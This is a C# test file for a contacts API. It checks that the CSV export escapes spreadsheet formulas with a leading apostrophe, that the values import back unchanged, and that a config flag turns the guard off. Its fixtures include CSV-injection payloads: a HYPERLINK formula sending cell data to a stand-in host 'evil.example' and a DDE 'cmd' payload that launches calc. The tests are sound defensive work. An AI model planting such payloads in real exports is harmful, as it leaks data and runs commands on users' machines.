using System.Net;
using System.Text.Json.Nodes;
using Actors.Api.Tests.Contacts;
using Actors.Api.Tests.Infrastructure;
using static Actors.Api.Tests.Imports.ImportRequests;

namespace Actors.Api.Tests.Export;

/// <summary>
/// A CSV export of values from web forms and tracking hits must not hand a spreadsheet a formula to run (CSV
/// injection): such a value is written after an apostrophe, numbers and phone numbers as they are, and importing the
/// export back restores every value.
/// </summary>
public abstract class CsvFormulaExportTests(Func<TestStore> store)
{
    private static readonly Dictionary<string, string> Values = new()
    {
        ["firstname"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        ["lastname"] = "-2+3+cmd|' /C calc'!A0",
        ["city"] = "@SUM(1,2)",
        ["address1"] = "+1+1",
        ["address2"] = "\tindented",
        ["mobile"] = "+44 20 7946 0958",
        ["phone"] = "-12.5",
        ["company"] = "'quoted already",
        ["position"] = "'=1+1",
        ["zipcode"] = "''-abc",
        // After whitespace, which a spreadsheet may skip and the import trims.
        ["facebook"] = " =1+2",
        ["instagram"] = "\n=1+1",
        ["linkedin"] = " '@x",
        ["skype"] = "\u00a0-abc",
    };

    [Fact]
    public async Task Values_a_spreadsheet_would_run_are_written_after_an_apostrophe_and_import_back_unchanged()
    {
        await using var api = new ApiFactory(store());
        var body = new JsonObject { ["email"] = "ann@example.com" };
        foreach (var (alias, value) in Values)
            body[alias] = value;
        await ContactWriteTests.Create(api, body.ToJsonString());

        var csv = await api.ApiClient().GetStringAsync("/api/contacts/export?format=csv");

        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\",", csv);
        Assert.Contains(",'-2+3+cmd|' /C calc'!A0,", csv);
        Assert.Contains(",\"'@SUM(1,2)\",", csv);
        Assert.Contains(",'+1+1,", csv);
        Assert.Contains(",'\tindented,", csv);
        Assert.Contains(",+44 20 7946 0958,", csv);
        Assert.Contains(",-12.5,", csv);
        Assert.Contains(",'quoted already,", csv);
        Assert.Contains(",''=1+1,", csv);
        Assert.Contains(",'''-abc,", csv);
        Assert.Contains(",' =1+2,", csv);
        Assert.Contains(",\"'\n=1+1\",", csv);
        Assert.Contains(",' '@x,", csv);
        Assert.Contains(",'\u00a0-abc,", csv);

        await using var copy = new ApiFactory(store());
        await Import(copy, csv);
        var imported = (await ListContacts(copy.ApiClient())).Single().Value!;
        foreach (var (alias, value) in Values)
            Assert.Equal(value, Field(imported, alias));
    }

    [Fact]
    public async Task Apostrophes_followed_by_whitespace_alone_import_back_with_the_whitespace_they_shield()
    {
        string[] values = ["'\t", "' ", "''\t \t", " '\t", "'\r\n"];
        await using var api = new ApiFactory(store());
        for (var i = 0; i < values.Length; i++)
            await ContactWriteTests.Create(api, new JsonObject { ["email"] = $"p{i}@example.com", ["twitter"] = values[i] }.ToJsonString());

        var csv = await api.ApiClient().GetStringAsync("/api/contacts/export?format=csv");
        await using var copy = new ApiFactory(store());
        await Import(copy, csv);

        var imported = (await ListContacts(copy.ApiClient())).ToDictionary(c => Field(c.Value!, "email")!, c => Field(c.Value!, "twitter"));
        Assert.Equal(values, values.Select((_, i) => imported[$"p{i}@example.com"]));
    }

    [Fact]
    public async Task Export_GuardCsvFormulas_false_writes_values_as_they_are()
    {
        await using var api = new ApiFactory(store(), new Dictionary<string, string?> { ["Export:GuardCsvFormulas"] = "false" });
        await ContactWriteTests.Create(api, """{"email":"ann@example.com","city":"=1+1"}""");

        var csv = await api.ApiClient().GetStringAsync("/api/contacts/export?format=csv");

        Assert.Contains(",=1+1,", csv);
    }
}

public sealed class SqliteCsvFormulaExportTests() : CsvFormulaExportTests(TestStore.Sqlite);

public sealed class PostgreSqlCsvFormulaExportTests() : CsvFormulaExportTests(TestStore.PostgreSql);
